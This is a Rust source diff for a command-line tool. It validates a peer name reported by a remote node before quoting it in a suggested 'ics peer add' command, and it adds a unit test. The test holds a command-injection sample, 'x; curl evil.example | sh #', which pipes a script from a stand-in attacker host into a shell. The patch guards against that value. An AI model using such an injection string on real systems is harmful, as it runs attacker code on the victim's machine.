@@ -304,12 +304,19 @@ fn refuse_other_name(context: &Context, peer: &PeerConfig) -> Result<(), Failure
     let node = Node::of_peer(url.as_str(), peer.pin())?;
     let told = context.wait(async { Ok(tokio::time::timeout(NAME_WITHIN, node.info()).await) })?;
     match told {
-        Ok(Ok(info)) if info.name != peer.name.as_str() => {
-            let (name, given) = (clean(&info.name), &peer.name);
-            let text = format!("the node at {url} is `{name}`: its cosignatures carry that name, not `{given}`");
-            Err(Failure::new(Exit::Refused, text).hint(format!("`ics peer add {name} --witness …` names it so")))
-        }
+        Ok(Ok(info)) if info.name != peer.name.as_str() => Err(misnamed(url, &info.name, &peer.name)),
         _ => Ok(()),
+    }
+}
+
+/// Whoever answers chooses the name: one that no peer can have stands in no command that is to be copied into a shell.
+fn misnamed(url: &PeerUrl, name: &str, given: &PeerName) -> Failure {
+    let told = clean(name);
+    let text = format!("the node at {url} is `{told}`: its cosignatures carry that name, not `{given}`");
+    let failure = Failure::new(Exit::Refused, text);
+    match name.parse::<PeerName>() {
+        Ok(name) => failure.hint(format!("`ics peer add {name} --witness …` names it so")),
+        Err(_) => failure,
     }
 }
 
@@ -383,4 +390,18 @@ fn confirm() -> Result<(), Failure> {
     let nobody = Failure::new(Exit::Usage, "there is nobody to compare the origin")
         .hint("give the whole origin, or --yes to trust the peer");
     output::confirm("Is this the origin that the domain's owners gave you?", nobody, "nothing was changed")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_command_to_be_copied_holds_no_text_of_whoever_answers() {
+        let (url, given) = ("https://ics.cert.example", "cert");
+        let (url, given): (PeerUrl, PeerName) = (url.parse().expect("a URL"), given.parse().expect("a name"));
+        let told = |name: &str| format!("{:?}", misnamed(&url, name, &given));
+        assert!(told("ics.cert.example").contains("`ics peer add ics.cert.example --witness …`"));
+        assert!(!told("x; curl evil.example | sh #").contains("ics peer add"));
+    }
 }
